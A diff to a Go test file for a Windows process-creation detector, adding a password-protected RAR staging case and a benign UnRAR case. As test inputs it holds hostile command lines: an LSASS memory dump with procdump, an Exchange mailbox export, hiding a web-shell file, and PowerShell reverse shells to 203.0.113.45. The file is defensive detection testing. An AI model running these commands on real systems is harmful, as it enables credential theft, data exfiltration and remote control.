@@ -216,6 +216,7 @@ func TestProcessCreation(t *testing.T) {
 	expect(t, "procdump", run(t, ProcessCreation{}, sysmon1(`C:\root\procdump64.exe`, `procdump64.exe -accepteula -ma lsass.exe C:\root\lsass.dmp`, `C:\Windows\System32\cmd.exe`)), RuleLsassDump.ID, finding.Critical)
 	expect(t, "snapin", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -c "Add-PSSnapin Microsoft.Exchange.Management.Powershell.SnapIn; Get-Mailbox | New-MailboxExportRequest -FilePath \\ex01\c$\pst\a.pst"`, `C:\Windows\System32\cmd.exe`)), RuleExchangeSnapin.ID, finding.High)
 	expect(t, "7z", run(t, ProcessCreation{}, sysmon1(`C:\ProgramData\7z.exe`, `C:\ProgramData\7z.exe a -t7z -mx9 C:\ProgramData\pst\it.7z C:\ProgramData\pst`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.High)
+	expect(t, "rar", run(t, ProcessCreation{}, sysmon1(`C:\ProgramData\rar.exe`, `C:\ProgramData\rar.exe a -hpSecret C:\ProgramData\out.rar C:\Users\ceo\Documents`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.Medium)
 	expect(t, "attrib", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\attrib.exe`, `attrib +h +s +r C:\inetpub\wwwroot\aspnet_client\system_web\x.aspx`, `C:\Windows\System32\cmd.exe`)), RulePostExploitCommand.ID, finding.Critical)
 	expect(t, "nishang", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.45',443);$stream = $client.GetStream()"`, w3wp)), RuleReverseShell.ID, finding.Critical)
 	payload := utf16le(`$c=New-Object Net.Sockets.TCPClient('203.0.113.45',4444);$s=$c.GetStream();iex ([Text.Encoding]::ASCII.GetString($b))`)
@@ -237,6 +238,7 @@ func TestProcessCreation(t *testing.T) {
 	none(t, "setup snapin", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -command ". '$env:ExchangeInstallPath\bin\RemoteExchange.ps1'; Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; $exserver=Get-ExchangeServer ([Environment]::MachineName) -ErrorVariable exerr 2> $null"`, `C:\Windows\System32\msiexec.exe`)))
 	none(t, "admin encoded", run(t, ProcessCreation{}, sysmon1(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -e "+utf16le("Get-Service MSExchange* | Restart-Service"), `C:\Windows\explorer.exe`)))
 	none(t, "ordinary", run(t, ProcessCreation{}, security4688(`C:\Windows\System32\cmd.exe`, `cmd /c echo hello`, `C:\Windows\explorer.exe`)))
+	none(t, "unrar", run(t, ProcessCreation{}, sysmon1(`C:\Program Files\WinRAR\UnRAR.exe`, `"C:\Program Files\WinRAR\UnRAR.exe" x C:\Temp\tools.rar C:\Temp\`, `C:\Windows\explorer.exe`)))
 }
 
 func utf16le(s string) string {
